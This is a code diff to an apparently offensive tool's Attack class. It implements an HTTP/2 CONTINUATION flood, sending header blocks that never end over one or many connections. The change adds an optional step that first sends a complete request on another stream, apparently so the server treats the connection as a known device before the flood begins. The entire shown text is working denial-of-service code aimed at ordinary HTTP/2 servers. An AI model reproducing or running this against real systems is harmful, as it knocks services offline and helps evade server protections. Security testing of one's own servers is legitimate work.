@@ -149,15 +149,18 @@ class Attack:
         self.over_and_over(once)
 
     def header(self):
-        """A header block that never ends, over one connection (--once) or again and again."""
+        """A header block that never ends, over one connection (--once) or again and again. A device calls first: the base then
+        knows whose connection it is, and lets it bring more."""
         block = literal(b"x", b"y" * 100) * 100
-        one_frame = frame(CONTINUATION, 0, 1, block)
-        chunk = one_frame * 8
+        chunk = frame(CONTINUATION, 0, 3, block) * 8
 
         def once():
             one = self.http2()
             try:
-                one.sendall(frame(HEADERS, 0, 1, SYNC))
+                if self.args.identity:
+                    one.sendall(frame(HEADERS, END_HEADERS, 1, SYNC) + frame(DATA, END_STREAM, 1, hello()))
+                    time.sleep(0.05)
+                one.sendall(frame(HEADERS, 0, 3, SYNC))
                 while self.left() > 0:
                     one.sendall(chunk)
                     self.count("bytes", len(chunk))
